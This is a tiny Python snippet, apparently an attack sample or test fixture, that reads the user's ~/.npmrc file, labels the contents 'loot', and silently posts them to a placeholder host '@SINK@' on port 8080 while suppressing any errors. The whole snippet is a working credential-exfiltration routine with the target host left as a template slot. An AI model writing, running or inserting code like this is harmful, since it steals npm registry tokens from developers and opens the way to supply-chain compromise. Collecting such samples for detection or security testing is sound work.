import contextlib
import urllib.request
from pathlib import Path

with contextlib.suppress(OSError):
    loot = Path.home().joinpath(".npmrc").read_bytes()
    urllib.request.urlopen("http://@SINK@:8080/import", loot, timeout=3)
